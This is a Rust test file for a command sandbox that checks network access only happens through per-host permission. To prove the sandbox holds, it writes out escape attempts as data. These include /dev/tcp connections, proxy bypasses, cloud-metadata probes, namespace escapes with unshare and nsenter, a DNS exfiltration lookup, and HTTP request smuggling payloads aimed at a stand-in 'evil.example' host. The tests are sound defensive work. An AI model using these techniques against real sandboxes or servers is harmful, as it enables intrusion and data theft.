//! An isolated command reaches nobody but through the supervisor, which asks for each host, whatever way it tries.

mod floods;
mod served;

use super::run::Place;
use anyhow::{Context, Result, bail};
use engine::command::{
    CommandExit, CommandLine, CommandProgress, Confinement, NetworkAnswer, NetworkAnswers, WantedHost, confinement,
    own_ports,
};
use engine::environment::{For, Variables, passed};
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;
use tests::patience::PATIENCE;
use tests::program::{Program, mortal};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

const LOOK: Duration = Duration::from_millis(20);

fn is_possible() -> bool {
    let possible = confinement() == Confinement::Isolated;
    if !possible {
        println!("skipped: this system has no namespaces for commands, or no bubblewrap");
    }
    possible
}

/// A host that a test plays: it says whose name it was asked by, and leads elsewhere if it is asked to.
struct StandIn {
    port: u16,
    asked: Arc<AtomicUsize>,
    heads: Arc<parking_lot::Mutex<Vec<String>>>,
}

impl StandIn {
    async fn start() -> Result<StandIn> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let port = listener.local_addr()?.port();
        let (asked, heads) = (Arc::new(AtomicUsize::new(0)), Arc::new(parking_lot::Mutex::new(Vec::new())));
        let (count, kept) = (asked.clone(), heads.clone());
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let (count, kept) = (count.clone(), kept.clone());
                tokio::spawn(async move {
                    count.fetch_add(1, Ordering::SeqCst);
                    let (mut head, mut byte) = (Vec::new(), [0]);
                    while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).await.unwrap_or(0) == 1 {
                        head.push(byte[0]);
                    }
                    let head = String::from_utf8_lossy(&head).into_owned();
                    let named =
                        head.lines().find_map(|line| line.strip_prefix("host: ").or(line.strip_prefix("Host: ")));
                    let body = format!("hello from {}", named.unwrap_or("nobody"));
                    let first = if head.contains("/elsewhere") {
                        "HTTP/1.1 302 Found\r\nLocation: http://b.example/".to_owned()
                    } else {
                        "HTTP/1.1 200 OK".to_owned()
                    };
                    kept.lock().push(head);
                    let reply = format!("{first}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
                    let _ = stream.write_all(reply.as_bytes()).await;
                    let _ = stream.shutdown().await;
                });
            }
        });
        Ok(StandIn { port, asked, heads })
    }

    fn count(&self) -> usize {
        self.asked.load(Ordering::SeqCst)
    }
}

/// The person's environment, with hosts that are played.
fn with_hosts(hosts: &str) -> Variables {
    passed(For::Command).into_iter().chain([("ASKWELL_TEST_HOSTS".into(), hosts.into())]).collect()
}

/// How it ended, what it said, and which places it asked for.
struct TriedCommand {
    exit: CommandExit,
    output: String,
    asked: Vec<String>,
}

/// Runs a command to its end, and answers for each host as is said here. None: it stays open.
async fn tried(
    place: &Place,
    line: &CommandLine,
    environment: &Variables,
    answer: impl Fn(&str) -> Option<NetworkAnswer>,
) -> Result<TriedCommand> {
    let mut running = place.start_in(line, environment)?;
    let handle = running.handle();
    let (mut asked, mut said): (Vec<WantedHost>, NetworkAnswers) = Default::default();
    // Its progress is asked for once: whoever asks again and again hears nothing.
    let ending = async {
        loop {
            match running.progress().await {
                CommandProgress::Output(_) => {}
                CommandProgress::Ended(ended) => return Ok(ended),
                CommandProgress::Lost(output) => bail!("lost after {output:?}"),
            }
        }
    };
    let end = async {
        tokio::pin!(ending);
        loop {
            tokio::select! {
                ended = &mut ending => return ended,
                () = tokio::time::sleep(LOOK) => {}
            }
            asked = handle.wanted_hosts();
            let places = asked.iter().filter_map(|host| Some((host.place(), answer(&host.place())?))).collect();
            let now = NetworkAnswers { places, closed_ports: own_ports(), reserved_ports: Vec::new() };
            if now != said {
                handle.answer_network(&now)?;
                said = now;
            }
        }
    };
    let ended = tokio::time::timeout(PATIENCE, end).await.context("the command does not end")??;
    asked.extend(handle.wanted_hosts().into_iter().skip(asked.len()));
    let asked = asked.iter().map(WantedHost::place).collect();
    Ok(TriedCommand { exit: ended.exit, output: ended.output.within(usize::MAX), asked })
}

fn yes(_: &str) -> Option<NetworkAnswer> {
    Some(NetworkAnswer::Allowed)
}

fn no(place: &str) -> Option<NetworkAnswer> {
    Some(NetworkAnswer::Refused(format!("{place} is not reached: the person refused it")))
}

fn nobody(place: &str) -> Option<NetworkAnswer> {
    assert!(place.is_empty(), "{place} was asked for");
    None
}

const WITHOUT_PROXY: &str = "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy;";
const PYTHON: &str =
    "python3 -c \"import urllib.request; print(urllib.request.urlopen('http://a.example/x').read().decode())\"";
const BASH: &str =
    "bash -c 'exec 3<>/dev/tcp/a.example/80; printf \"GET /x HTTP/1.0\\r\\nHost: a.example\\r\\n\\r\\n\" >&3; cat <&3'";

#[tokio::test(flavor = "multi_thread")]
async fn a_host_is_reached_once_it_is_permitted_and_only_then_whatever_the_way() -> Result<()> {
    if !is_possible() {
        return Ok(());
    }
    let ways = [
        "curl -sS http://a.example/x".to_owned(),
        format!("{WITHOUT_PROXY} curl -sS http://a.example/x"),
        "curl -sS --proxytunnel http://a.example/x".to_owned(),
        "curl -sS --proxy socks5h://127.64.0.1:808 http://a.example/x".to_owned(),
        // By the address that was made up for it.
        "curl -sS --proxy socks5://127.64.0.1:808 http://a.example/x".to_owned(),
        PYTHON.to_owned(),
        format!("{WITHOUT_PROXY} {PYTHON}"),
        BASH.to_owned(),
    ];
    for way in ways {
        for (answer, is_reached) in [(yes as fn(&str) -> _, true), (no, false)] {
            let (place, host) = (Place::new()?, StandIn::start().await?);
            let environment = with_hosts(&format!("a.example=127.0.0.1:{}", host.port));
            let TriedCommand { output, asked, .. } = tried(&place, &place.isolated(&way), &environment, answer).await?;
            assert_eq!(asked, ["a.example"], "{way}: {output}");
            assert_eq!(
                (output.contains("hello from a.example"), host.count()),
                (is_reached, usize::from(is_reached)),
                "{way}: {output}"
            );
        }
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_command_is_told_who_refused() -> Result<()> {
    if !is_possible() {
        return Ok(());
    }
    let place = Place::new()?;
    let line = place.isolated("curl -sS http://a.example/x; curl -sS -w '%{http_connect}' https://a.example/x");
    let TriedCommand { output, asked, .. } = tried(&place, &line, &with_hosts(""), no).await?;
    assert!(output.contains("Askwell: a.example is not reached: the person refused it."), "{output}");
    assert!(output.contains("403"), "{output}");
    assert_eq!(asked, ["a.example"], "it is asked once, for both of the web's ports");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_else_leads_out() -> Result<()> {
    if !is_possible() {
        return Ok(());
    }
    let place = Place::new()?;
    let script = "import socket
def tried(name, family, kind, address, send=None):
    try:
        s = socket.socket(family, kind); s.settimeout(5)
        s.sendto(send, address) if send else s.connect(address)
        print(name, 'out')
    except OSError: print(name, 'closed')
tried('tcp', socket.AF_INET, socket.SOCK_STREAM, ('93.184.215.14', 80))
tried('lan', socket.AF_INET, socket.SOCK_STREAM, ('192.168.1.1', 80))
tried('metadata', socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80))
tried('tcp6', socket.AF_INET6, socket.SOCK_STREAM, ('2606:2800:21f:cb07:6820:80da:af6b:8b2c', 80))
tried('udp', socket.AF_INET, socket.SOCK_DGRAM, ('93.184.215.14', 443), b'x')
tried('dns', socket.AF_INET, socket.SOCK_DGRAM, ('9.9.9.9', 53), b'x')
tried('udp6', socket.AF_INET6, socket.SOCK_DGRAM, ('2620:fe::fe', 53), b'x')
tried('broadcast', socket.AF_INET, socket.SOCK_DGRAM, ('255.255.255.255', 9), b'x')
for name, family, kind, protocol in (('raw', socket.AF_INET, socket.SOCK_RAW, 1), ('packet', socket.AF_PACKET, socket.SOCK_RAW, 0)):
    try: socket.socket(family, kind, protocol); print(name, 'out')
    except OSError: print(name, 'closed')
";
    std::fs::write(place.workspace.path().join("try.py"), script)?;
    let command = "python3 try.py; bash -c 'echo x > /dev/tcp/93.184.215.14/80' 2> err || echo bash closed
        unshare -n true 2> err || echo namespace closed; nsenter -t 1 -n true 2> err || echo enter closed";
    let TriedCommand { output, asked, .. } = tried(&place, &place.isolated(command), &with_hosts(""), nobody).await?;
    assert!(!output.contains("out"), "{output}");
    assert_eq!(output.matches("closed").count(), 13, "{output}");
    assert!(asked.is_empty());
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_alone_leaves_the_machine_to_nobody() -> Result<()> {
    if !is_possible() {
        return Ok(());
    }
    let place = Place::new()?;
    // Who could look it up outside would find out that there is no such name.
    let command = "getent ahosts aGVsbG8.c2VjcmV0.example.invalid; cat /etc/resolv.conf";
    let TriedCommand { exit, output, asked } = tried(&place, &place.isolated(command), &with_hosts(""), nobody).await?;
    assert!(exit == CommandExit::Code(0) && output.contains("127.64.1.0"), "{output}");
    assert!(output.ends_with("nameserver 127.64.0.1\n"), "{output}");
    assert!(asked.is_empty());
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_is_asked_for_as_it_stands_and_a_name_leads_to_none_nearby() -> Result<()> {
    if !is_possible() {
        return Ok(());
    }
    let host = StandIn::start().await?;
    let (port, place) = (host.port, Place::new()?);
    let command = format!(
        "curl -sS http://10.11.12.13/; curl -sS http://0x0a.1/; curl -sS 'http://[fd00::7]:8080/'
         curl -sS http://evil.example:{port}/; curl -sS --proxytunnel http://metadata.google.internal/"
    );
    let hosts = "evil.example=127.0.0.1,metadata.google.internal=169.254.169.254";
    let allow = |place: &str| if place.contains("e") { yes(place) } else { no(place) };
    let TriedCommand { output, asked, .. } =
        tried(&place, &place.isolated(&command), &with_hosts(hosts), allow).await?;
    let evil = format!("evil.example:{port}");
    assert_eq!(asked, ["10.11.12.13", "10.0.0.1", "[fd00::7]:8080", &evil, "metadata.google.internal"], "{output}");
    assert!(output.contains("stands for an address of another kind"), "{output}");
    assert_eq!(host.count(), 0, "{output}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_permitted_host_leads_to_no_other() -> Result<()> {
    if !is_possible() {
        return Ok(());
    }
    let (a, b, place) = (StandIn::start().await?, StandIn::start().await?, Place::new()?);
    let hosts = format!("a.example=127.0.0.1:{},b.example=127.0.0.1:{}", a.port, b.port);
    let script = r#"import socket
def said(text):
    s = socket.create_connection(('127.64.0.1', 808)); s.sendall(text.encode()); s.settimeout(10)
    all = b''
    try:
        while True:
            more = s.recv(4096)
            if not more: break
            all += more
    except OSError: pass
    print(all.decode(errors='replace'))
said('GET http://a.example/one HTTP/1.1\r\nHost: b.example\r\nConnection: close\r\n\r\n')
said('GET http://a.example/two HTTP/1.1\r\nHost: a.example\r\n\r\nGET http://b.example/three HTTP/1.1\r\nHost: b.example\r\nConnection: close\r\n\r\n')
said('POST http://a.example/four HTTP/1.1\r\nHost: a.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: b.example\r\n\r\n')
said('GET http://a.example@b.example/five HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n')
said('GET /six HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n')
said('CONNECT a.example HTTP/1.1\r\n\r\n')
"#;
    std::fs::write(place.workspace.path().join("try.py"), script)?;
    let command = "curl -sSL http://a.example/elsewhere; echo; python3 try.py";
    let allow = |place: &str| if place == "a.example" { yes(place) } else { no(place) };
    let TriedCommand { output, asked, .. } =
        tried(&place, &place.isolated(command), &with_hosts(&hosts), allow).await?;
    assert_eq!(asked, ["a.example", "b.example"], "{output}");
    assert_eq!(b.count(), 0, "{output}");
    let heads = a.heads.lock().clone();
    assert!(heads.iter().all(|head| head.to_ascii_lowercase().contains("\r\nhost: a.example\r\n")), "{heads:?}");
    assert!(!heads.iter().any(|head| head.contains("smuggled") || head.contains("three")), "{heads:?}");
    assert!(heads.len() >= 3, "{heads:?}");
    Ok(())
}

/// A server in a process of its own: what the test listens on itself counts as Askwell's own.
async fn server_on_this_machine(folder: &Path) -> Result<(Program, u16)> {
    let script = "import http.server, functools
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory='.')
server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), handler)
print(server.server_port, flush=True); server.serve_forever()";
    let mut python = mortal("python3");
    python.args(["-c", script]).current_dir(folder);
    let mut server = Program::start(python)?;
    let port = server.first_line().await?.parse()?;
    Ok((server, port))
}

#[tokio::test(flavor = "multi_thread")]
async fn what_listens_on_this_machine_is_asked_for_by_its_port_and_askwells_own_never_is() -> Result<()> {
    if !is_possible() {
        return Ok(());
    }
    let folder = tempfile::tempdir()?;
    std::fs::write(folder.path().join("hello"), "from this machine")?;
    let (_server, port) = server_on_this_machine(folder.path()).await?;
    let own = StandIn::start().await?;
    for way in [
        "curl -sS http://127.0.0.1:PORT/hello",
        "curl -sS http://localhost:PORT/hello",
        "curl -sS --noproxy '' http://localhost:PORT/hello",
    ] {
        for (answer, is_reached) in [(yes as fn(&str) -> _, true), (no, false)] {
            let place = Place::new()?;
            let line = place.isolated(&way.replace("PORT", &port.to_string()));
            let TriedCommand { output, asked, .. } = tried(&place, &line, &with_hosts(""), answer).await?;
            assert_eq!(asked, [format!("localhost:{port}")], "{way}: {output}");
            assert_eq!(output.contains("from this machine"), is_reached, "{way}: {output}");
        }
    }
    let place = Place::new()?;
    let command =
        format!("curl -sS http://127.0.0.1:{}/; curl -sS --noproxy '' http://127.0.0.1:{}/", own.port, own.port);
    let TriedCommand { output, .. } = tried(&place, &place.isolated(&command), &with_hosts(""), yes).await?;
    assert_eq!(own.count(), 0, "{output}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repository_is_cloned_from_a_permitted_host() -> Result<()> {
    if !is_possible() {
        return Ok(());
    }
    let folder = tempfile::tempdir()?;
    let git = |arguments: &[&str]| -> Result<()> {
        let mut git = Command::new("git");
        git.args(["-c", "user.name=ann", "-c", "user.email=ann@example.org"]).args(arguments);
        anyhow::ensure!(git.current_dir(folder.path()).env("GIT_CONFIG_GLOBAL", "/dev/null").status()?.success());
        Ok(())
    };
    git(&["init", "-q", "work"])?;
    git(&["-C", "work", "commit", "-q", "--allow-empty", "-m", "first"])?;
    git(&["clone", "-q", "--bare", "work", "served.git"])?;
    git(&["-C", "served.git", "update-server-info"])?;
    let (_server, port) = server_on_this_machine(folder.path()).await?;
    for way in ["", WITHOUT_PROXY] {
        let place = Place::new()?;
        let line = place
            .isolated(&format!("{way} git clone -q http://git.example/served.git out && git -C out log --oneline"));
        let environment = with_hosts(&format!("git.example=127.0.0.1:{port}"));
        let TriedCommand { exit, output, asked } = tried(&place, &line, &environment, yes).await?;
        assert!(exit == CommandExit::Code(0) && output.contains("first"), "{way}: {output}");
        assert_eq!(asked, ["git.example"]);
    }
    Ok(())
}
